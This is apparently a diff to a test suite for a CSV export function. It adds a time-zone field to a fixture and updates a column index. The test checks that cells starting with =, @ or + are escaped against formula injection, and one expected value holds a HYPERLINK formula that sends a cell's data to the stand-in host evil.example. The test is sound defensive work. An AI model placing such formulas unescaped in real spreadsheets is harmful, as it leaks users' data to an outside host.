@@ -50,13 +50,14 @@ describe('the one CSV writer', () => {
         companyID: 1,
         firmwareVersion: null,
         company: { name: '+Acme' },
+        timeZone: 'UTC',
       },
     ]);
     const row = Papa.parse<string[]>(csv.slice(1).trim(), { newline: '\r\n' }).data[1]!;
     expect(row[2]).toBe(`'=HYPERLINK("http://evil.example/?d="&A2,"Click")`);
     expect(row[3]).toBe("'@/P");
     expect(row[7]).toBe('-3.5');
-    expect(row[14]).toBe("'+Acme");
+    expect(row[15]).toBe("'+Acme");
   });
 
   it('names files without characters file systems refuse', () => {
